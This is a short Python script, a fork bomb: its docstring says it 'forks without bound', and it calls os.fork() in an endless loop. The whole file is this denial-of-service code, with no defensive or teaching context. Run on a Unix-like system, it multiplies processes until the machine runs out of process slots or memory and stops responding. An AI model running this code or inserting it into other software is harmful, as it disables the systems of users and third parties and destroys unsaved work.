"""Forks without bound."""

import os

while True:
    os.fork()
